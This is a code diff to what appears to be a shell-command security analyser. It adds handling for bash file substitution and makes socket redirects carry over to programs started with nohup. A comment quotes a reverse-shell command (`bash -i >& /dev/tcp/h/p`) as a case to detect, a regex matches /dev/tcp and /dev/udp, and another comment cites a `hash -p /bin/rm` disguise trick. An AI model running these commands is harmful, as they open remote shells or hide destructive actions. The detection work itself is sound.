@@ -157,6 +157,11 @@ export function emitBareRedirect(targets: readonly RedirectTarget[], analysis: A
   const command = buildCommand(plainParts({ program: undefined, args: [], reading: readArgv(undefined, []), redirects: targets, unseenArgs: false }, state), analysis);
   const index = analysis.emit(command, state.captured);
   for (const path of command.writes) analysis.files.set(path, { writer: index, downloaded: false, ...(state.stdin.kind === "text" ? { content: state.stdin.text } : {}) });
+  // `$(< file)` is bash's `$(cat file)`: the substitution holds the file's text.
+  if (state.captured > 0 && command.writes.length === 0 && command.reads.length === 1) {
+    const text = analysis.dataText(command.reads[0]);
+    if (text !== undefined) analysis.outputs.set(index, text);
+  }
 }
 
 export function runCommand(argv: readonly Field[], context: RunContext, analysis: Analysis, state: State): void {
@@ -209,7 +214,15 @@ export function runCommand(argv: readonly Field[], context: RunContext, analysis
     judgeEvaluatedArguments(name, plan.reading, args, wordEnvironment(analysis, state), analysis, state);
     applyBuiltin(name, plan.reading, args, analysis, state, context.stdin);
   }
-  runLaunches(plan, index, analysis, state);
+  runLaunches(plan, index, analysis, state, socketRedirects(context.redirects));
+}
+
+/**
+ * A launched program inherits its launcher's open files: `nohup bash -i >& /dev/tcp/h/p 0>&1` wires the shell to
+ * the connection as surely as without nohup. Only the connections are handed on (a file redirect is the launcher's).
+ */
+function socketRedirects(redirects: readonly RedirectTarget[]): RedirectTarget[] {
+  return redirects.filter((target) => target.field.values.length > 0 && target.field.values.every((value) => /^\/dev\/(?:tcp|udp)\//.test(value)));
 }
 
 /** `hash -p /bin/rm ls; ls …`: the name runs the remembered path (a builtin keeps its own meaning). */
